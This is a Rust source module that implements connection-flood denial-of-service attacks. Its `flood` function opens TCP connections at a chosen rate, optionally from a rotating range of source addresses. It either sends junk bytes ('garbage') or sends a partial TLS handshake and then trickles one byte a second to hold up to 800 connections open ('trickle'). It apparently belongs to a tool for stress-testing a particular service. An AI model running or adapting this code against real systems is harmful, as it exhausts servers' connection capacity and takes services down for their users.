//! Attacks by connections that prove nothing.

use std::collections::VecDeque;
use std::io::Write;
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

use socket2::{Domain, Protocol, Socket, Type};

use crate::datagrams::{PORT, at_rate};
use crate::{Failure, Words};

/// How many are held open at a time; the oldest is closed for a new one.
const HELD: usize = 800;
/// Begin of a TLS handshake: a record that promises 512 bytes.
const BEGIN: [u8; 6] = [0x16, 0x03, 0x01, 0x02, 0x00, 0x01];

/// Opens connections at a rate, from one address or from many in turn, and behaves badly on them.
pub fn flood(attack: &str, words: &Words) -> Result<(), Failure> {
    let (to, rate) = (words.get::<IpAddr>("to")?, words.get("rate")?);
    let (from, addresses) = (
        words.get::<Ipv4Addr>("from")?,
        words.or("addresses", 1_u64)?,
    );
    let attack = attack.to_owned();
    let mut held = VecDeque::new();
    at_rate(rate, move |number| {
        let offset = u32::try_from(number % addresses).unwrap_or(0);
        let own = Ipv4Addr::from_bits(from.to_bits() + offset);
        let Ok(mut stream) = open(own, SocketAddr::new(to, PORT)) else {
            return false;
        };
        let said = match attack.as_str() {
            "garbage" => stream.write_all(&[0xa5; 900]),
            "trickle" => stream.write_all(&BEGIN),
            _ => Ok(()),
        };
        if attack == "trickle" && number % rate == 0 {
            // A byte a second on each that is still open.
            held.retain_mut(|one: &mut TcpStream| one.write_all(&[0]).is_ok());
        }
        held.push_back(stream);
        if held.len() > HELD {
            held.pop_front();
        }
        said.is_ok()
    })
}

/// A connection that is on its way: nothing waits for it.
fn open(from: Ipv4Addr, to: SocketAddr) -> Result<TcpStream, std::io::Error> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP))?;
    socket.bind(&SocketAddr::from((from, 0)).into())?;
    socket.connect_timeout(&to.into(), Duration::from_millis(200))?;
    let stream: TcpStream = socket.into();
    stream.set_nonblocking(true)?;
    Ok(stream)
}
